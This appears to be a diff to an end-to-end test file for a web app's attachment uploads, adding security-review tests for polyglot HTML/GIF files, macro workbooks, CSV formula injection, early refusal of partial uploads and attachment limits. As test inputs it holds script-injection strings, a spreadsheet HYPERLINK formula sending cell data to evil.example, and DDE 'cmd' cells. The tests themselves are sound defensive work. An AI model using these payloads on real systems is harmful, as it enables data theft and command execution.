@@ -4,13 +4,16 @@
  * 403, 404, 413) leaving neither a file nor a row behind.
  */
 import { createHash, randomUUID } from 'node:crypto';
-import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
+import { request, type IncomingHttpHeaders } from 'node:http';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { deflateSync } from 'node:zlib';
+import { CONTENT_TYPES } from '../../apps/api/src/attachments/sniff.js';
 import { AttachmentEntity } from '../../libs/db/entities/attachment.entity.js';
 import { exampleSummary, type ExampleAttachmentIds } from '../../libs/summary/index.js';
 import { activityBody } from '../support/builders.js';
+import { docx, OLE_HEADER, xlsx } from '../support/ooxml.js';
 import { registerExampleActivity } from './support/fixtures.js';
 import { bearer, startStack, type Stack } from './support/stack.js';
 
@@ -21,8 +24,11 @@ const smallDir = mkdtempSync(path.join(tmpdir(), 'attachments-small-e2e-'));
 
 beforeAll(async () => {
   stack = await startStack({ ATTACHMENTS_DIR: dir });
-  // Same database, a 1 KB limit; uploads only, so it needs no worker.
-  small = await startStack({ ATTACHMENTS_MAX_BYTES: '1024', ATTACHMENTS_DIR: smallDir }, { worker: false });
+  // Same database, a 1 KB limit and 2 attachments per activity; uploads only, so it needs no worker.
+  small = await startStack(
+    { ATTACHMENTS_MAX_BYTES: '1024', ATTACHMENTS_MAX_PER_ACTIVITY: '2', ATTACHMENTS_DIR: smallDir },
+    { worker: false },
+  );
 });
 afterAll(async () => {
   await small?.stop();
@@ -140,6 +146,7 @@ describe('attachments (SPEC §4)', () => {
         size: c.bytes.length,
         sha256: sha256(c.bytes),
         originalName: c.name,
+        fileName: c.name,
       });
       ids.push(res.body.id);
 
@@ -253,6 +260,180 @@ describe('attachments (SPEC §4)', () => {
     const fits = await upload('staff', id, 'photo', png(), 'small.png', small);
     expect(fits.status).toBe(201);
     expect(readdirSync(path.join(smallDir, id))).toEqual([fits.body.id]);
+  });
+});
+
+// ── security review, finding 4 ──────────────────────────────────────────────────────────
+
+/** A one-pixel GIF89a. */
+const GIF = Buffer.from('474946383961010001008000000000ffffff21f90401000000002c00000000010001000002024401003b', 'hex');
+
+/**
+ * A multipart upload over a raw socket that sends only the first `sentBytes` of a `declaredBytes`
+ * file and then waits: the answer can only come from a server that did not wait for the rest.
+ * Resolves with the response, or `null` when none came within `waitMs`.
+ */
+async function partialUpload(on: Stack, user: string, activityId: string, sentBytes: number, waitMs: number) {
+  const boundary = `----e2e${randomUUID()}`;
+  const head = Buffer.from(
+    `--${boundary}\r\nContent-Disposition: form-data; name="kind"\r\n\r\nphoto\r\n` +
+      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.png"\r\nContent-Type: image/png\r\n\r\n`,
+  );
+  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
+  const declaredBytes = 19 * 1024 * 1024;
+  const url = new URL(`${on.baseUrl}/api/activities/${activityId}/attachments`);
+  const token = await on.login(user);
+  return new Promise<{ status: number; headers: IncomingHttpHeaders; body: any } | null>((resolve, reject) => {
+    const req = request(url, {
+      method: 'POST',
+      headers: {
+        ...bearer(token),
+        'content-type': `multipart/form-data; boundary=${boundary}`,
+        'content-length': String(head.length + declaredBytes + tail.length),
+      },
+    });
+    const timer = setTimeout(() => {
+      req.destroy();
+      resolve(null);
+    }, waitMs);
+    req.on('error', () => undefined); // the server may close while the rest is still unsent
+    req.on('response', (res) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (c: Buffer) => chunks.push(c));
+      res.on('error', reject);
+      res.on('end', () => {
+        clearTimeout(timer);
+        req.destroy();
+        const text = Buffer.concat(chunks).toString('utf8');
+        resolve({ status: res.statusCode ?? 0, headers: res.headers, body: text ? JSON.parse(text) : null });
+      });
+    });
+    req.write(Buffer.concat([head, png(), Buffer.alloc(sentBytes)]));
+  });
+}
+
+describe('security review, finding 4: attachments', () => {
+  it('an HTML file with a GIF header is refused as a photo, and a real GIF named .html downloads as .gif', async () => {
+    const id = await register();
+    for (const bytes of [
+      Buffer.from('GIF89a<html><body><script>alert(document.cookie)</script></body></html>'),
+      Buffer.concat([GIF, Buffer.from('<script src="//evil.example/x.js"></script>')]),
+    ]) {
+      const polyglot = await upload('staff', id, 'photo', bytes, '活动照片.html');
+      expect(polyglot.status).toBe(400);
+      expect(polyglot.body).toMatchObject({ code: 'VALIDATION_FAILED', messageZh: expect.stringContaining('HTML') });
+      expect(polyglot.body.details[0]).toMatchObject({ field: 'file', code: 'embeddedMarkup' });
+    }
+    expect(await stored(id)).toEqual({ files: [], rows: 0 });
+
+    const gif = await upload('staff', id, 'photo', GIF, '活动照片.html');
+    expect(gif.status).toBe(201);
+    expect(gif.body).toMatchObject({ contentType: 'image/gif', originalName: '活动照片.html', fileName: '活动照片.gif' });
+    const got = await download('staff', id, gif.body.id);
+    expect(got.headers.get('content-type')).toBe('image/gif');
+    expect(got.headers.get('content-disposition')).toBe(
+      `attachment; filename="____.gif"; filename*=UTF-8''${encodeURIComponent('活动照片')}.gif`,
+    );
+    expect(got.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(got.headers.get('content-security-policy')).toBe("default-src 'none'");
+    const list = await stack.as('staff')('GET', `/api/activities/${id}/attachments`);
+    expect(list.body.items[0]).toMatchObject({ originalName: '活动照片.html', fileName: '活动照片.gif' });
+  });
+
+  it(
+    'a macro workbook (xl/vbaProject.bin) or macro document is refused (400 naming file); ' + 'a plain one named .xlsm is stored as .xlsx',
+    async () => {
+      const id = await register();
+      const vba = { name: 'xl/vbaProject.bin', data: OLE_HEADER };
+      for (const [kind, bytes, name] of [
+        [
+          'data_table',
+          xlsx({ macroEnabled: true, extra: [vba], defaults: { bin: 'application/vnd.ms-office.vbaProject' } }),
+          '费用明细.xlsm',
+        ],
+        ['data_table', xlsx({ extra: [vba] }), '费用明细.xlsx'],
+        ['questionnaire_report', docx({ macroEnabled: true, extra: [{ name: 'word/vbaProject.bin', data: OLE_HEADER }] }), '报告.docx'],
+      ] as const) {
+        const res = await upload('staff', id, kind, bytes, name);
+        expect(res.status).toBe(400);
+        expect(res.body).toMatchObject({
+          statusCode: 400,
+          code: 'VALIDATION_FAILED',
+          message: expect.stringContaining('macros'),
+          messageZh: expect.stringContaining('宏'),
+        });
+        expect(res.body.details).toEqual([expect.objectContaining({ field: 'file', code: 'macrosNotAllowed' })]);
+      }
+      expect(await stored(id)).toEqual({ files: [], rows: 0 });
+
+      const plain = await upload('staff', id, 'data_table', xlsx(), '费用明细.xlsm');
+      expect(plain.status).toBe(201);
+      expect(plain.body).toMatchObject({ contentType: CONTENT_TYPES.xlsx, originalName: '费用明细.xlsm', fileName: '费用明细.xlsx' });
+      expect((await download('staff', id, plain.body.id)).headers.get('content-disposition')).toContain('.xlsx');
+    },
+  );
+
+  it('CSV cells that would run as formulas are served as text, the stored file and its sha256 stay as uploaded', async () => {
+    const id = await register();
+    const csv = Buffer.from(
+      '项目,金额,备注\n退款,-120.50,=HYPERLINK("http://evil.example/?"&A1,"点此领取")\n' +
+        '调整,+3,"@SUM(1+1)*cmd|\' /C calc\'!A0"\n合计,\t-1+cmd|x!A0,+86\n',
+      'utf8',
+    );
+    const res = await upload('staff', id, 'data_table', csv, '费用.csv');
+    expect(res.status).toBe(201);
+    expect(res.body).toMatchObject({ contentType: 'text/csv; charset=utf-8', size: csv.length, sha256: sha256(csv) });
+    expect(readFileSync(path.join(dir, id, res.body.id)).equals(csv)).toBe(true);
+
+    const got = await download('supervisor', id, res.body.id);
+    const expected =
+      '项目,金额,备注\n退款,-120.50,\'=HYPERLINK("http://evil.example/?"&A1,"点此领取")\n' +
+      "调整,+3,\"'@SUM(1+1)*cmd|' /C calc'!A0\"\n合计,\t'-1+cmd|x!A0,+86\n";
+    expect(got.bytes.toString('utf8')).toBe(expected);
+    expect(got.headers.get('content-length')).toBe(String(Buffer.byteLength(expected)));
+    expect(got.headers.get('content-disposition')).toMatch(/^attachment; /);
+  });
+
+  it(
+    'another department is refused (403) before the body is read: the answer comes while 19 MB are still unsent, ' +
+      'and nothing is written',
+    async () => {
+      const id = await register();
+      // Control: the lead department's staff, given the same first 64 KB, gets no answer: the server waits for the body.
+      expect(await partialUpload(stack, 'staff', id, 64 * 1024, 1_000)).toBeNull();
+
+      const started = Date.now();
+      const refused = await partialUpload(stack, 'training_staff', id, 64 * 1024, 10_000);
+      expect(refused).not.toBeNull();
+      expect(refused?.status).toBe(403);
+      expect(refused?.body).toMatchObject({ code: 'FORBIDDEN', details: [expect.objectContaining({ code: 'otherDepartment' })] });
+      // The server stops reading: it closes the connection rather than drain the rest.
+      expect(refused?.headers.connection).toBe('close');
+      expect(Date.now() - started).toBeLessThan(5_000);
+
+      // An unknown activity: 404, equally before the body.
+      expect((await partialUpload(stack, 'staff', randomUUID(), 64 * 1024, 10_000))?.status).toBe(404);
+      expect(await stored(id)).toEqual({ files: [], rows: 0 });
+    },
+  );
+
+  it('an activity never takes more than ATTACHMENTS_MAX_PER_ACTIVITY attachments (413), not even by concurrent uploads', async () => {
+    const id = await register();
+    const results = await Promise.all([1, 2, 3].map((n) => upload('staff', id, 'photo', png(n, 1), `p${n}.png`, small)));
+    expect(results.map((r) => r.status).sort()).toEqual([201, 201, 413]);
+    const more = await upload('staff', id, 'photo', png(), 'p4.png', small);
+    expect(more.status).toBe(413);
+    expect(more.body).toMatchObject({
+      statusCode: 413,
+      code: 'PAYLOAD_TOO_LARGE',
+      message: expect.stringContaining('2 attachments'),
+      messageZh: expect.stringContaining('2 个附件'),
+      details: [expect.objectContaining({ field: 'file', code: 'tooManyAttachments' })],
+    });
+    expect(readdirSync(path.join(smallDir, id))).toHaveLength(2);
+    expect(await small.dataSource.getRepository(AttachmentEntity).countBy({ activityId: id })).toBe(2);
+    // Refused before the body: the answer comes while most of it is unsent.
+    expect((await partialUpload(small, 'staff', id, 64 * 1024, 10_000))?.status).toBe(413);
   });
 });
 
